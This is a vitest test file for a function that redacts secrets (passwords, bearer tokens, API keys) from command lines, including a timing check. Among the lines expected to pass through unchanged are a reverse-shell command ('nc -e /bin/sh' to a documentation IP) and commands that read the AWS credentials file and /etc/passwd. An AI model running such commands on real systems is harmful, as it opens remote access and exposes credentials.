import { describe, expect, it } from 'vitest';
import { redactCommandLine } from '../../../src/domain/command-line.ts';

describe('a command line', () => {
  it.each([
    'mysql -u root -phunter2 -h db',
    'mysqldump --password=hunter2 shop',
    'psql --db-password "hunter2" -h db',
    'PGPASSWORD=hunter2 psql -h db',
    'env DB_SECRET=hunter2 ./run',
    'aws_secret_access_key=hunter2 aws s3 ls',
    'sshpass -p hunter2 ssh root@10.0.0.1',
    'curl -u admin:hunter2 https://example.com',
    'curl -H "Authorization: Bearer hunter2" https://example.com',
    'curl https://me:hunter2@example.com/x',
    './agent --api-key hunter2 --verbose',
  ])('loses its secret: %s', (line) => {
    expect(redactCommandLine(line)).not.toContain('hunter2');
    expect(redactCommandLine(line)).toMatch(/removed/);
  });

  it.each(['ls -la /etc/passwd', 'cat /root/.aws/credentials', 'nc -e /bin/sh 198.51.100.7 4444', 'git log -p src'])(
    'that holds none stays as it is: %s',
    (line) => {
      expect(redactCommandLine(line)).toBe(line);
    },
  );

  it('costs no more than its length, whatever stands in it', () => {
    const began = performance.now();
    for (const part of ['A_', 'a-', ' --a-', 'token', ' -p', "mysql '", 'x:']) redactCommandLine(part.repeat(50_000));
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});
